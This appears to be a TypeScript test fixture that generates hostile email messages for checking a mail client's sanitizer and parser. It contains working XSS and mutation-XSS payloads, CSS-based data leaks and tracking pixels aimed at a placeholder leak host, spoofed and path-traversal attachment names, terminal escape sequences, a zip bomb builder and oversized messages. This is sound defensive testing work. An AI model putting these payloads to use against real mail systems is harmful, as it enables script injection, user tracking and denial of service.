/**
 * Mail as an attacker writes it, made anew and the same each time. `LEAK` and `LEAKHOST` in HTML become the address of
 * a counter that stands for the rest of the world; `parent.owned` and `top.owned` are set by whatever runs.
 */
import { deflateRawSync } from 'node:zlib';

/** How to reach the counter. */
export interface LeakAddress {
  readonly origin: string;
  readonly port: number;
}

export interface HostileMail {
  readonly name: string;
  /** Made when it is asked for: some are large. */
  readonly make: (leak: LeakAddress) => Uint8Array;
  /** Larger than a few megabytes. */
  readonly isLarge?: true;
}

/** Each entry is one way to load, run or leave that the HTML of mail has used. */
export const hostileHtml: Readonly<Record<string, string>> = {
  script: '<script>fetch("LEAK/script");parent.owned=top.owned=1</script>',
  'script elsewhere': '<script src="LEAK/script.js"></script><script type=module src="LEAK/m.js"></script>',
  'event handlers':
    '<img src=x onerror="fetch(\'LEAK/onerror\');parent.owned=1"><body onload="fetch(\'LEAK/onload\')"><details open ontoggle="fetch(\'LEAK/toggle\')">x</details><style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="fetch(\'LEAK/anim\')">x</p>',
  'script in SVG':
    '<svg onload="fetch(\'LEAK/svg\')"><script>fetch("LEAK/svgscript")</script><image href="LEAK/svgimg"/><foreignObject><iframe src="LEAK/fo"></iframe></foreignObject><animate attributeName=href values="LEAK/animate" /></svg>',
  'use in SVG': '<svg><use href="LEAK/use.svg#a"/><style>@import "LEAK/svgcss";</style></svg>',
  'MathML confusion':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=LEAK/mxss onerror=fetch(1)&gt;">',
  'noscript confusion':
    '<noscript><p title="</noscript><img src=LEAK/noscript onerror=parent.owned=1>"></noscript>',
  forms:
    '<form action="LEAK/form" id=f><input name=q autofocus><button>Go</button></form><input form=f type=image src="LEAK/inputimg"><button formaction="LEAK/fa">x</button>',
  frames:
    '<iframe src="LEAK/frame"></iframe><frameset><frame src="LEAK/fs"></frameset><object data="LEAK/object"></object><embed src="LEAK/embed"><applet code="LEAK/applet"></applet>',
  'frame with a document': '<iframe srcdoc="<img src=LEAK/srcdoc><script>top.owned=1</script>"></iframe>',
  refresh: '<meta http-equiv="refresh" content="0;url=LEAK/refresh">',
  'own policy':
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="LEAK/policy.gif">',
  'addresses in styles':
    '<div style="background:url(LEAK/inline.png);list-style:url(\'LEAK/list.png\');content:url(LEAK/c)">x</div><div style="background:u\\72l(LEAK/escaped.png)">x</div><div style="background-image:image-set(\'LEAK/set.png\' 1x)">x</div>',
  'style sheets':
    '<style>@import url(LEAK/import.css);@import "LEAK/i2.css";body{background:url(LEAK/css.png)}*{cursor:url(LEAK/cursor.cur),auto}</style><link rel=stylesheet href="LEAK/link.css"><link rel=prefetch href="LEAK/prefetch">',
  fonts: '<style>@font-face{font-family:f;src:url(LEAK/font.woff)}p{font-family:f}</style><p>text</p>',
  'styles that run':
    '<div style="width:expression(fetch(\'LEAK/expression\'));behavior:url(LEAK/b.htc);-moz-binding:url(LEAK/x.xml)">x</div>',
  'styles that read':
    '<style>input[value^=a]{background:url(LEAK/read-a)}:root{--x:url(LEAK/var)}p{background:var(--x)}</style><input value=abc><p>x</p>',
  'cover of the page':
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red;width:100vw;height:100vh">Your session ended</div><dialog open style="position:fixed">x</dialog><div popover id=p>x</div>',
  'remote pictures':
    '<img src="LEAK/pixel.gif" width=1 height=1><img srcset="LEAK/srcset.png 2x"><picture><source srcset="LEAK/source.png"><img></picture><img src="//LEAKHOST/relative.gif"><table background="LEAK/background.png"><tr><td background="LEAK/td.png">x</td></tr></table>',
  'sound and film':
    '<video src="LEAK/video" poster="LEAK/poster" autoplay></video><audio src="LEAK/audio" autoplay></audio><video><track src="LEAK/track" default></video>',
  hints:
    '<link rel=dns-prefetch href="LEAK"><link rel=preconnect href="LEAK"><link rel=preload as=image href="LEAK/preload"><link rel=icon href="LEAK/icon"><html manifest="LEAK/manifest">',
  base: '<base href="LEAK/base/" target=_top><img src="relative.gif"><a href="page">x</a>',
  'javascript addresses':
    '<a href="javascript:fetch(\'LEAK/js\')" id=js>x</a><img src="javascript:alert(1)"><a href="java&#10;script:top.owned=1">y</a><a href="vbscript:x">z</a>',
  'data addresses':
    '<a href="data:text/html,<script>top.owned=1</script>">d</a><iframe src="data:text/html,<img src=LEAK/data>"></iframe><a href="blob:x">b</a>',
  'shadow root': '<div><template shadowrootmode=open><img src="LEAK/shadow"></template></div>',
  clobbering: '<img name=body src=x><form name=querySelector></form><a id=documentElement></a>',
  'broken out':
    '</body></html>"></iframe><img src="LEAK/after"><script>top.owned=1;fetch("LEAK/afterscript")</script>',
  'ping and download':
    '<a href="LEAK/link" ping="LEAK/ping" download>x</a><a href="LEAK/x" target=_blank>y</a>',
  'picture with a document':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.owned=1'><image href='LEAK/svgdata'/></svg>\">",
};

const crlf = '\r\n';
const latin1 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'latin1'));
const withLeak = (text: string, { origin, port }: LeakAddress): string =>
  text.replaceAll('LEAKHOST', `127.0.0.1:${port}`).replaceAll('LEAK', origin);

function headerOf(name: string): string[] {
  return [
    'From: "</style><img src=LEAK/from>" <evil@evil.test>',
    'To: ann@corp.test',
    `Subject: ${name} <img src="LEAK/subject" onerror=top.owned=1>`,
    'Date: Mon, 23 Nov 2026 09:00:00 +0000',
    'MIME-Version: 1.0',
  ];
}

/** A message of one HTML text, with an attachment whose names are hostile too. */
function htmlMail(name: string, html: string, leak: LeakAddress): Uint8Array {
  const text = [
    ...headerOf(name),
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '<p id=end>The end of the offer</p>',
    '--b',
    'Content-Type: text/html; name="<img src=LEAK/name>.html"',
    'Content-Disposition: attachment; filename="<img src=LEAK/filename>.html"',
    '',
    '<script>top.owned=1</script><img src="LEAK/attached">',
    '--b--',
    '',
  ].join(crlf);
  return latin1(withLeak(text, leak));
}

const simple = (name: string, ...rest: readonly string[]): HostileMail => ({
  name,
  make: (leak) => latin1(withLeak([...headerOf(name), ...rest].join(crlf), leak)),
});

/** Head and tail around `count` repetitions, without a string of the whole. */
function repeated(head: string, piece: string, count: number, tail = ''): Uint8Array {
  const first = Buffer.from(head, 'latin1');
  const last = Buffer.from(tail, 'latin1');
  const length = Buffer.byteLength(piece, 'latin1') * count;
  const bytes = new Uint8Array(first.length + length + last.length);
  const view = Buffer.from(bytes.buffer);
  first.copy(view);
  if (length > 0) view.fill(piece, first.length, first.length + length, 'latin1');
  last.copy(view, first.length + length);
  return bytes;
}

const head = (name: string, ...more: readonly string[]): string =>
  [...headerOf(name), ...more, '', ''].join(crlf).replaceAll('LEAK', 'http://127.0.0.1:9');

/** Zeros that unpack to a thousand times their size; a ZIP with one file. */
function zipBomb(unpackedBytes: number): string {
  const packed = deflateRawSync(Buffer.alloc(unpackedBytes), { level: 9 });
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(unpackedBytes, 22);
  local.writeUInt16LE(1, 26);
  return Buffer.concat([local, Buffer.from('a'), packed])
    .toString('base64')
    .replace(/.{76}/g, '$&\r\n');
}

const structures: readonly HostileMail[] = [
  {
    name: 'nested parts',
    make: () =>
      latin1(
        Array.from(
          { length: 5000 },
          (_, at) =>
            `${at === 0 ? `${headerOf('nested parts').join(crlf)}${crlf}` : ''}Content-Type: multipart/mixed; boundary=b${at}${crlf}${crlf}--b${at}${crlf}`,
        ).join(''),
      ),
  },
  {
    name: 'messages in messages',
    make: () =>
      repeated(
        `Subject: messages in messages${crlf}`,
        `Content-Type: message/rfc822${crlf}${crlf}Subject: in${crlf}`,
        20_000,
      ),
  },
  {
    name: 'headers without number',
    make: () =>
      repeated(
        `${headerOf('headers without number').join(crlf)}${crlf}`,
        `X-Many: value${crlf}`,
        200_000,
        `${crlf}text`,
      ),
  },
  {
    name: 'header of 10 MB',
    make: () =>
      repeated(`Subject: header of 10 MB${crlf}X-Long: `, 'abcdefghij', 1024 * 1024, `${crlf}${crlf}text`),
  },
  {
    name: 'addresses without number',
    make: () =>
      repeated(
        `Subject: addresses without number${crlf}To: `,
        `Ann <ann@corp.test>,${crlf} `,
        100_000,
        `${crlf}${crlf}text`,
      ),
  },
  {
    name: 'parts without number',
    make: () =>
      repeated(
        head('parts without number', 'Content-Type: multipart/mixed; boundary=b'),
        `--b${crlf}${crlf}x${crlf}`,
        200_000,
      ),
  },
  {
    name: 'lines like boundaries',
    make: () =>
      repeated(
        `${head('lines like boundaries', 'Content-Type: multipart/mixed; boundary=bb')}--bb${crlf}${crlf}`,
        `--bb-${crlf}`,
        1_000_000,
        '--bb--',
      ),
  },
  {
    name: 'endless boundary',
    make: () =>
      repeated(`Subject: endless boundary${crlf}Content-Type: multipart/mixed; boundary="`, 'b', 10_000_000),
  },
  simple(
    'no end',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    '',
    'text',
    '--b',
    'Content-Type: text/html',
  ),
  simple('unknown charset', 'Content-Type: text/plain; charset="x-\x00evil"', '', 'caf\xe9 \xff\xfe'),
  simple(
    'UTF-7',
    'Content-Type: text/html; charset=utf-7',
    '',
    '+ADw-script+AD4-top.owned+AD0-1+ADw-/script+AD4-',
  ),
  simple('broken base64', 'Content-Transfer-Encoding: base64', '', '====%%%%SGVs!!!bG8', '=A=B=C'),
  simple(
    'broken quoted-printable',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    '=',
    '==',
    '=G1=\x00=3',
  ),
  simple(
    'names that lie',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    '',
    'text',
    '--b',
    'Content-Type: image/png',
    "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEgnp.exe",
    '',
    'MZ',
    '--b',
    'Content-Type: application/pdf; name="../../../../etc/passwd"',
    'Content-Disposition: attachment; filename="..\\..\\Startup\\a.lnk"',
    '',
    'x',
    '--b',
    'Content-Type: text/plain',
    'Content-Disposition: attachment; filename="con.txt:stream\x00.exe"',
    '',
    'x',
    '--b--',
  ),
  simple('NUL bytes', 'X-Nul: a\x00b', 'Content-Type: text/plain; charset=utf-8', '', 'a\x00b\x00\x00c'),
  { name: 'bare CR', make: () => latin1('Subject: bare CR\rFrom: a@b\r\rtext\rmore') },
  {
    name: 'bare LF',
    make: () => latin1('Subject: bare LF\nFrom: a@b.test\nContent-Type: text/html\n\n<b>text</b>\n'),
  },
  simple(
    'characters that command a terminal',
    'X-Esc: \x1b]0;owned\x07',
    'Content-Type: text/plain; charset=utf-8',
    '',
    '\x1b[2J\xc2\x9b31m',
  ),
  simple(
    'uuencode',
    'Content-Type: application/octet-stream; name=a.bin',
    'Content-Transfer-Encoding: x-uuencode',
    '',
    'begin 644 ../../a.bin',
    '#0V%T',
    'M',
    'end',
  ),
  simple(
    'a page with its files (MHTML)',
    'Content-Type: multipart/related; type="text/html"; boundary=b',
    '',
    '--b',
    'Content-Type: text/html',
    'Content-Location: LEAK/page.html',
    '',
    '<base href="LEAK/"><img src="pic.png"><img src="cid:two@x"><link rel=stylesheet href="a.css">',
    '--b',
    'Content-Type: image/svg+xml',
    'Content-ID: <two@x>',
    'Content-Location: LEAK/pic.png',
    '',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="top.owned=1"><script>top.owned=1</script><image href="LEAK/cidsvg"/></svg>',
    '--b--',
  ),
  simple(
    'TNEF',
    'Content-Type: application/ms-tnef; name=winmail.dat',
    'Content-Transfer-Encoding: base64',
    '',
    'eJ8+IgEAAQAAAAEGkAgABAAAAAAAAQAB////////////////////',
  ),
  {
    name: 'attachment that unpacks to a thousand times its size',
    make: () =>
      latin1(
        `${head('attachment that unpacks to a thousand times its size', 'Content-Type: application/zip; name=bomb.zip', 'Content-Transfer-Encoding: base64')}${zipBomb(20 * 1024 * 1024)}`,
      ),
  },
  {
    name: 'one line of 10 MB',
    make: () => repeated(head('one line of 10 MB', 'Content-Type: text/html'), '<b>line</b>', 953_000),
  },
  {
    name: 'nested elements',
    make: () => repeated(head('nested elements', 'Content-Type: text/html'), '<div>', 100_000, 'deep'),
  },
  {
    name: 'styles without number',
    make: () =>
      repeated(
        `${head('styles without number', 'Content-Type: text/html')}<style>`,
        'a{b:c}:is(a,b)',
        50_000,
        '</style>text',
      ),
  },
  {
    name: 'attributes without number',
    make: () =>
      repeated(
        `${head('attributes without number', 'Content-Type: text/html')}<p `,
        'a=b ',
        200_000,
        '>text</p>',
      ),
  },
  {
    name: 'encoded words without number',
    make: () =>
      repeated(
        `Subject: encoded words without number${crlf} `,
        `=?utf-8?q?=C3=A4?=${crlf} `,
        100_000,
        `${crlf}${crlf}text`,
      ),
  },
  {
    name: 'parameters without number',
    make: () =>
      repeated(
        'Subject: parameters without number\r\nContent-Type: text/plain',
        `;${crlf} name*1*=%41`,
        50_000,
        `${crlf}${crlf}text`,
      ),
  },
  {
    name: 'attachment of 100 MB',
    isLarge: true,
    make: () =>
      repeated(
        head(
          'attachment of 100 MB',
          'Content-Type: application/octet-stream; name=large.bin',
          'Content-Transfer-Encoding: base64',
        ),
        `${'QUJD'.repeat(19)}${crlf}`,
        1_344_000,
      ),
  },
];

/** All of them; the large ones last. */
export const hostileMails: readonly HostileMail[] = [
  ...Object.entries(hostileHtml).map(
    ([name, html]): HostileMail => ({ name, make: (leak) => htmlMail(name, html, leak) }),
  ),
  {
    name: 'all of it at once',
    make: (leak) => htmlMail('all of it at once', Object.values(hostileHtml).join('\n'), leak),
  },
  ...structures,
];

/** For those that are not about a subject of their own. */
export const noLeak: LeakAddress = { origin: 'http://127.0.0.1:9', port: 9 };
